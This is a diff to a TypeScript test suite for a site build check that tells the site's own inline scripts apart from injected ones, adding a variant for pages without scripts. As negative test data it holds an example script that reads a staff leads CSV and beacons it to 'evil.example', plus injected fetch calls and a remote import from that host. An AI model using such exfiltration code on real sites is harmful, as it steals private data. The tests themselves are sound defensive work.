@@ -7,7 +7,10 @@ import type { SiteScript } from "./site-script";
 
 // Each of the site's own inline scripts as a built page carries it (React Router's as scripts/hydrate-after-paint.ts
 // leaves them; tests/build/csp.test.ts checks every built page against the same recognisers).
-const head = `(${inlineScriptSource("app/lib/head-script.ts")})("/assets/inter-latin-wght-normal-Dx4kXJAl.woff2")`;
+const FONT = '("/assets/inter-latin-wght-normal-Dx4kXJAl.woff2")';
+const head = `(${inlineScriptSource("app/lib/head-script.ts")})${FONT}`;
+// A page without scripts (app/rendering/page-scripts.ts) carries this variant, and no other inline script.
+const staticPageHead = `(${inlineScriptSource("app/lib/static-page-head-script.ts")})${FONT}`;
 const scroll = () => `(${restoreScrollSource()})("react-router-scroll-positions", null)`;
 const stream =
   "window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());";
@@ -44,6 +47,12 @@ describe("the site's own inline scripts", () => {
     );
   });
 
+  it("include the head script of a page without scripts, its only inline script", () => {
+    const html = `<!DOCTYPE html><html><head><script>${staticPageHead}</script></head><body><main>…</main></body></html>`;
+    expect(foreignScripts("/privacy-policy", html, known)).toEqual([]);
+    expect(siteScriptHashes("/privacy-policy", html, known)).toEqual([sha256Source(staticPageHead)]);
+  });
+
   it("stop the build at a script stored in content, naming the page and the script's first 80 characters", () => {
     const stored =
       'fetch("/staff/leads/export.csv").then((answer) => answer.text()).then((leads) => navigator.sendBeacon("https://evil.example", leads))';
@@ -58,6 +67,8 @@ describe("the site's own inline scripts", () => {
     ["code as the data of a hydration chunk", 'window.__reactRouterContext.streamController.enqueue(fetch("/x"));'],
     ["code as React Router's context", `window.__reactRouterContext = {"a":fetch("/x")};${stream}`],
     ["code as the head script's argument", head.replace(/\("\/assets\/[^"]+"\)$/, '(fetch("/x"))')],
+    ["code as the static page head script's argument", staticPageHead.replace(/\("\/assets\/[^"]+"\)$/, '(fetch("/x"))')],
+    ["code after the static page head script", `${staticPageHead};fetch("/x")`],
     [
       "a module script that imports from elsewhere",
       module.replace('import("/assets/route-CyVIsH9k.js")', 'import("https://evil.example/x.js")'),
